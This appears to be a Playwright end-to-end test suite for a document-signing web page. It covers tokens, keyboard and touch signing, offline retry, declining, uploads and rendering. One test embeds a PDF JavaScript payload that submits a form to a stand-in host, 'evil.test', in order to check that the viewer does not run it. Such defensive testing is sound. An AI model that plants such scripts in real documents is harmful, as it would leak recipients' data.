import { expect, type Page, test } from '@playwright/test'
import { PDFDocument } from 'pdf-lib'
import { expectAccessible, expectNoOverflow, watchErrors } from './support/page'
import {
  access,
  documentPath,
  field,
  pdfOf,
  protectedPdf,
  RecipientApi,
} from './support/recipient-api'

const button = (page: Page, name: string | RegExp) => page.getByRole('button', { name })
const next = (page: Page) => button(page, 'Next Signature')
const required = (page: Page) => page.locator('.required-count')

/** Signs the field that has the focus by typing, with the keyboard alone. */
async function typeSignature(page: Page) {
  await page.keyboard.press('Enter')
  const sheet = page.getByRole('dialog')
  await sheet.getByRole('radio', { name: 'Type' }).check()
  await sheet.getByRole('textbox').press('Enter')
  await expect(sheet).toHaveCount(0)
}

async function agree(page: Page) {
  await button(page, 'Agree and continue').click()
}

const fields = [
  field('purchaser', { y: 60 }),
  field('initials-1', {
    kind: 'initials',
    label: 'Initials, page 1',
    x: 480,
    width: 50,
    height: 18,
  }),
  field('initials-2', {
    kind: 'initials',
    label: 'Initials, page 2',
    pageNumber: 2,
    x: 480,
    width: 50,
    height: 18,
  }),
  field('day', { kind: 'date', label: 'Date', pageNumber: 2, y: 300, width: 90, height: 18 }),
  field('rules', {
    kind: 'checkbox',
    label: 'I have read the rules',
    pageNumber: 3,
    y: 80,
    width: 14,
    height: 14,
  }),
  field('note', {
    kind: 'text',
    label: 'Remark',
    pageNumber: 3,
    y: 300,
    height: 18,
    required: false,
  }),
]

test.describe('a link that opens nothing', () => {
  for (const [status, text] of [
    [403, 'Expired token'],
    [404, 'Invalid token'],
    [500, 'Invalid token'],
  ] as const)
    test(`${status} is reported as “${text}”`, async ({ page }) => {
      await page.route('**/api/v1/Documents/Access-Token**', (route) =>
        route.fulfill({ status, contentType: 'application/problem+json', body: '{}' }),
      )
      await page.goto(documentPath.toLowerCase().replace('accesstoken', 'accessToken'))
      await expect(page.getByText(text, { exact: true })).toBeVisible()
      await expect(page.getByRole('banner')).toHaveCount(0)
      expect(new URL(page.url()).search).toBe('')
      await expectAccessible(page)
    })

  test('without a token “Missing token” is shown, and nothing is asked for', async ({ page }) => {
    let asked = 0
    await page.route('**/api/v1/Documents/**', (route) => {
      asked += 1
      return route.abort()
    })
    await page.goto('/External-View-File')
    await expect(page.getByText('Missing token', { exact: true })).toBeVisible()
    expect(asked).toBe(0)
  })
})

test('a document is read, signed and finished with the keyboard alone', async ({ page }) => {
  const errors = watchErrors(page)
  const api = new RecipientApi(access({ signatureFieldLocations: fields }), await pdfOf(3))
  await api.install(page)
  await page.goto(documentPath)
  await expect(page.locator('.asked')).toHaveText(
    'Oak Hill asks you to review and sign the document below. Please do this prior to Nov 30, 2026.',
  )
  await expect(page.getByText('Paragraph one of page 1')).toBeVisible()
  await expect(required(page)).toHaveText('5 Signature(s) Required')
  await expect(page.getByText('Paragraph one of page 3')).toBeAttached()

  await next(page).press('Enter')
  const initials = page.getByRole('button', { name: /^Initials: Initials, page 1/ })
  await expect(initials).toBeFocused()
  await page.keyboard.press('Enter')
  await expect(page.getByText('I agree to sign this document electronically.')).toBeVisible()
  await button(page, 'Agree and continue').press('Enter')
  const sheet = page.getByRole('dialog')
  await expect(sheet).toContainText('Fills in all 2 initials.')
  await sheet.getByRole('radio', { name: 'Type' }).check()
  await expect(sheet.getByRole('textbox')).toHaveValue('AB')
  await sheet.getByRole('textbox').press('Enter')
  await expect(required(page)).toHaveText('3 Signature(s) Required')

  await next(page).press('Enter')
  await expect(page.getByRole('button', { name: /^Sign: Purchaser/ })).toBeFocused()
  await typeSignature(page)
  await next(page).press('Enter')
  await expect(page.getByRole('button', { name: /^Date: Date/ })).toBeFocused()
  await page.keyboard.press('Enter')
  await button(page, 'Save').press('Enter')
  await next(page).press('Enter')
  await expect(page.getByRole('checkbox', { name: /I have read the rules/ })).toBeFocused()
  await page.keyboard.press('Space')
  await expect(required(page)).toHaveText('0 Signature(s) Required')
  await button(page, 'Finish').dblclick()
  await expect(
    page.getByText('Thank You! You have done your part! No more actions are required from you.'),
  ).toBeVisible()
  expect(api.finishes).toBe(1)
  expect(api.consents).toEqual(['given'])
  expect(api.signBodies.map(({ fieldName }) => fieldName)).toEqual([
    'initials-1',
    'initials-2',
    'purchaser',
    'day',
    'rules',
  ])
  expect(api.signBodies[2]).toEqual({
    fieldName: 'purchaser',
    signature: { kind: 'typed', text: 'Ada Byron' },
    personId: 42,
    institutionId: null,
  })
  const download = page.waitForEvent('download')
  await button(page, 'Download').click()
  expect((await download).suggestedFilename()).toBe('Deed 2026-014.pdf')
  expect(errors).toEqual([])
})

test('a signature is drawn by touch at 390 px, uploaded as a picture, and taken back', async ({
  browser,
}) => {
  const context = await browser.newContext({
    viewport: { width: 390, height: 844 },
    hasTouch: true,
  })
  const page = await context.newPage()
  const two = [field('one'), field('two', { label: 'Witness', pageNumber: 3, y: 600 })]
  const api = new RecipientApi(access({ signatureFieldLocations: two }), await pdfOf(3))
  await api.install(page)
  await page.goto(documentPath)
  await next(page).tap()
  const one = page.getByRole('button', { name: /^Sign: Purchaser/ })
  await expect(one).toBeInViewport()
  const box = await one.boundingBox()
  expect(box?.height).toBeGreaterThanOrEqual(44)
  await one.tap()
  await agree(page)
  const canvas = page.locator('.drawing canvas')
  // There, on top, and where it will stay.
  await canvas.hover()
  const at = (await canvas.boundingBox()) ?? { x: 0, y: 0, width: 0, height: 0 }
  await page.mouse.move(at.x + 40, at.y + 90)
  await page.mouse.down()
  for (let n = 1; n < 20; n++) await page.mouse.move(at.x + 40 + n * 10, at.y + 90 + (n % 5) * 12)
  await page.mouse.up()
  const ink = () =>
    canvas.evaluate((one: HTMLCanvasElement) => {
      const { width, height } = one
      const pixels = one.getContext('2d')?.getImageData(0, 0, width, height).data ?? []
      let to = 0
      for (let at = 3; at < pixels.length; at += 4)
        if (pixels[at]) to = Math.max(to, ((at - 3) / 4) % width)
      return { to, sized: width === one.offsetWidth }
    })
  // What was drawn last comes a moment after the finger is lifted: up to 220 px from the left.
  await expect.poll(async () => (await ink()).to).toBeGreaterThan(215)
  const { to } = await ink()
  // The phone is turned, and back: the strokes stay, and the next is where the finger is.
  for (const [width, height] of [
    [844, 390],
    [390, 844],
  ] as const) {
    await page.setViewportSize({ width, height })
    await expect.poll(async () => (await ink()).sized).toBe(true)
    expect(Math.abs((await ink()).to - to)).toBeLessThan(3)
  }
  await page.getByRole('button', { name: 'Sign', exact: true }).tap()
  await expect(required(page)).toHaveText('1 Signature(s) Required')
  // The page counts before the server has answered.
  await expect.poll(() => api.saved.get('one')?.kind).toBe('drawn')
  const drawn = api.saved.get('one')
  expect(drawn && 'image' in drawn && drawn.image).toMatch(/^data:image\/png;base64,/)

  await next(page).tap()
  const witness = page.getByRole('button', { name: /^Sign: Witness/ })
  await expect(witness).toBeFocused()
  await expect(witness).toBeInViewport()
  await witness.tap()
  await page.getByRole('radio', { name: 'Upload' }).check()
  await page.locator('input[type=file]').setInputFiles({
    name: 'no.png',
    mimeType: 'image/png',
    buffer: Buffer.from('no picture'),
  })
  await expect(page.getByText(/not a readable image/)).toBeVisible()
  await page.locator('input[type=file]').setInputFiles({
    name: 'large.png',
    mimeType: 'image/png',
    buffer: await page.screenshot({ scale: 'device' }),
  })
  await expect(page.locator('.signature-preview img')).toBeVisible()
  await expectAccessible(page)
  await page.getByRole('button', { name: 'Sign', exact: true }).tap()
  await expect(button(page, 'Finish')).toBeVisible()
  await expect.poll(() => api.saved.has('two')).toBe(true)
  const uploaded = api.saved.get('two')
  expect(uploaded && 'image' in uploaded && uploaded.image.length).toBeLessThanOrEqual(200_000)

  await witness.tap()
  await button(page, 'Remove').tap()
  await expect(required(page)).toHaveText('1 Signature(s) Required')
  await expect.poll(() => api.saved.has('two')).toBe(false)
  await expectNoOverflow(page)
  await context.close()
})

test('leaving and coming back by the link or a reload shows what is signed', async ({ page }) => {
  const api = new RecipientApi(
    access({ signatureFieldLocations: fields, language: 'fr' }),
    await pdfOf(3),
  )
  api.saved.set('purchaser', { kind: 'typed', text: 'Ada Byron' })
  await api.install(page)
  await page.goto(documentPath)
  await expect(page.locator('html')).toHaveAttribute('lang', 'fr')
  await expect(required(page)).toHaveText('4 signature(s) requise(s)')
  await expect(page.getByRole('button', { name: /Purchaser, rempli/ })).toBeVisible()
  await page.reload()
  await expect(required(page)).toHaveText('4 signature(s) requise(s)')
  expect(await page.evaluate(() => localStorage.getItem('locale'))).toBeNull()
})

test('without a connection nothing is lost: it is kept over a reload and sent again', async ({
  page,
}) => {
  const api = new RecipientApi(access({ signatureFieldLocations: [field('one')] }), await pdfOf(1))
  api.access.consent.givenAt = '2026-11-23T10:00:00Z'
  await api.install(page)
  await page.goto(documentPath)
  await next(page).click()
  api.offline = true
  await typeSignature(page)
  await expect(page.getByText(/Connection lost/)).toBeVisible()
  await expect(page.getByRole('button', { name: /not sent yet/ })).toBeVisible()
  await button(page, 'Finish').click()
  await expect(page.getByText(/Connection lost/)).toBeVisible()
  expect(api.finishes).toBe(0)
  await expectAccessible(page)
  api.offline = false
  page.on('dialog', (dialog) => void dialog.accept())
  await page.reload()
  await expect(page.getByRole('button', { name: /^Sign: Purchaser, done/ })).toBeVisible()
  expect(api.saved.get('one')).toEqual({ kind: 'typed', text: 'Ada Byron' })
  await expect(page.getByText(/Connection lost/)).toHaveCount(0)
})

test('declining sends a reason; paper can be asked for', async ({ page }) => {
  const api = new RecipientApi(access({ signatureFieldLocations: [field('one')] }), await pdfOf(1))
  await api.install(page)
  await page.goto(documentPath)
  await next(page).click()
  await page.keyboard.press('Enter')
  await page.getByRole('dialog').getByRole('button', { name: 'Decline, or sign on paper' }).click()
  await button(page, 'Send to the cemetery').click()
  await expect(page.getByText('Please enter a reason.')).toBeVisible()
  await page.getByRole('radio', { name: 'Sign on paper instead' }).check()
  await page.getByRole('textbox').fill('12 Elm Street')
  await expectAccessible(page)
  await button(page, 'Send to the cemetery').click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('You asked to sign on paper')
  expect(api.declines).toEqual([{ reason: '12 Elm Street', paper: true }])
})

test('with an upload address the page appends the signatures and uploads a PDF', async ({
  page,
}) => {
  const api = new RecipientApi(access({ signatureFieldLocations: [field('one')] }), await pdfOf(2))
  api.saved.set('one', { kind: 'typed', text: 'Łucja Żak' })
  const value = { kind: 'typed', text: 'Łucja Żak' } as const
  api.finished = {
    ...api.finished,
    uploadUrl: '/api/v1/files/upload',
    uploadHeaders: { 'x-upload-tag': 'sealed' },
    allSignatures: [
      {
        fieldName: 'one',
        label: 'Purchaser',
        name: 'Łucja Żak',
        signedAt: '2026-11-23T10:00:00Z',
        value,
      },
    ],
  }
  await api.install(page)
  await page.goto(documentPath)
  await button(page, 'Finish').click()
  await expect(page.getByText(/^Thank You!/)).toBeVisible()
  await expect.poll(() => api.uploads.length).toBe(1)
  const [upload] = api.uploads
  expect(upload?.headers['x-upload-tag']).toBe('sealed')
  expect(upload?.headers['content-type']).toBe('application/pdf')
  expect((await PDFDocument.load(upload?.body ?? new Uint8Array())).getPageCount()).toBe(3)
})

test.describe('files that cannot be shown', () => {
  for (const [kind, file, text] of [
    ['a damaged one', async () => Buffer.from('%PDF-1.7 nothing more'), /document is damaged/],
    ['a protected one', protectedPdf, /document is password-protected/],
  ] as const)
    test(`${kind} is reported, and cannot be signed`, async ({ page }) => {
      const toSign = access({ signatureFieldLocations: [field('one')] })
      const api = new RecipientApi(toSign, await file())
      await api.install(page)
      await page.goto(documentPath)
      await expect(page.getByText(text)).toBeVisible()
      await expect(next(page)).toHaveCount(0)
    })

  test('scripts in a file are not run', async ({ page }) => {
    const errors = watchErrors(page)
    const pdf = await PDFDocument.load(await pdfOf(1))
    pdf.addJavaScript('main', 'app.alert("run"); this.submitForm("http://evil.test")')
    const api = new RecipientApi(
      access({ signatureFieldLocations: [field('one')] }),
      Buffer.from(await pdf.save()),
    )
    await api.install(page)
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    page.on('dialog', () => asked.push('dialog'))
    await page.goto(documentPath)
    await expect(page.getByText('Paragraph one of page 1')).toBeVisible()
    expect(asked.filter((url) => /evil|sandbox|dialog/.test(url))).toEqual([])
    expect(errors).toEqual([])
  })
})

test('300 pages draw no more than what is near, and the last field is reached at once', async ({
  page,
}) => {
  const last = field('one', { pageNumber: 300, y: 600 })
  const api = new RecipientApi(access({ signatureFieldLocations: [last] }), await pdfOf(300))
  await api.install(page)
  await page.goto(documentPath)
  await expect(page.getByText('Paragraph one of page 1', { exact: true })).toBeVisible()
  await expect(page.locator('.pdf-page')).toHaveCount(300)
  expect(await page.locator('.pdf-page canvas').count()).toBeLessThan(6)
  await next(page).click()
  const spot = page.getByRole('button', { name: /^Sign: Purchaser/ })
  await expect(spot).toBeInViewport()
  await expect(page.getByText('Paragraph one of page 300')).toBeVisible()
  expect(await page.locator('.pdf-page canvas').count()).toBeLessThan(6)
})

test('the page fits every width in both themes', async ({ page }) => {
  const api = new RecipientApi(
    access({
      signatureFieldLocations: fields,
      message: 'Please sign before the service on Friday.',
    }),
    await pdfOf(3),
  )
  await api.install(page)
  for (const dark of [false, true]) {
    await page.emulateMedia({ colorScheme: dark ? 'dark' : 'light' })
    for (const width of [1440, 800, 600, 390]) {
      await page.setViewportSize({ width, height: 900 })
      await page.goto(documentPath)
      await expect(page.getByText('Paragraph one of page 1', { exact: true })).toBeVisible()
      await expectNoOverflow(page)
      if (width === 1440 || width === 390) await expectAccessible(page)
    }
  }
  await button(page, 'Zoom in').click()
  await expectNoOverflow(page)
  await page.getByRole('button', { name: /^Sign: Purchaser/ }).click()
  await expectAccessible(page)
  await agree(page)
  await expect(page.locator('.drawing canvas')).toBeVisible()
  await expectAccessible(page)
})
